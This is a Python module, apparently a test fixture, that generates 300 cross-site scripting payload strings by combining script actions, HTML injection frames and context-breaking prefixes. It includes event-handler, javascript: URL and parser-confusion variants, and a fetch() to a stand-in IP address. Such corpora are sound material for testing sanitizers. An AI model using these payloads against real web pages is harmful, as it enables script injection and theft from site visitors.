"""Three hundred texts that want to be a script."""

from __future__ import annotations

_ACTS = ("window.__ran=1", "alert(1)", "fetch('http://192.0.2.1/')")
_FRAMES = (
    "<script>{0}</script>",
    '<img src=x onerror="{0}">',
    "<img src=x onerror='{0}'>",
    "<svg onload={0}>",
    "<svg><script>{0}</script></svg>",
    "<body onload={0}>",
    '<iframe srcdoc="<script>parent.{0}</script>">',
    '<iframe src="javascript:{0}">',
    '<a href="javascript:{0}">x</a>',
    "<details open ontoggle={0}>",
    "<input autofocus onfocus={0}>",
    "<video><source onerror={0}></video>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror={0}>",
    '<object data="javascript:{0}">',
    '<embed src="javascript:{0}">',
    '<form action="javascript:{0}"><button autofocus>x</button></form>',
    '<meta http-equiv=refresh content="0;url=javascript:{0}">',
    '<link rel=stylesheet href="javascript:{0}">',
    "<style>@import 'javascript:{0}'</style>",
    '<base href="javascript:{0}//">',
    "<template><script>{0}</script></template>",
    '<noscript><p title="</noscript><img src=x onerror={0}>">',
    "<!--><img src=x onerror={0}>-->",
    "<textarea autofocus onfocus={0}></textarea>",
    "<marquee onstart={0}>x</marquee>",
)
_AROUND = ("{0}", "\"'>{0}", "`${{{1}}}` {0}", "</script></title></style></textarea>{0}")

SCRIPTS = tuple(
    around.format(frame.format(act), act)
    for act in _ACTS
    for frame in _FRAMES
    for around in _AROUND
)
assert len(SCRIPTS) == 300
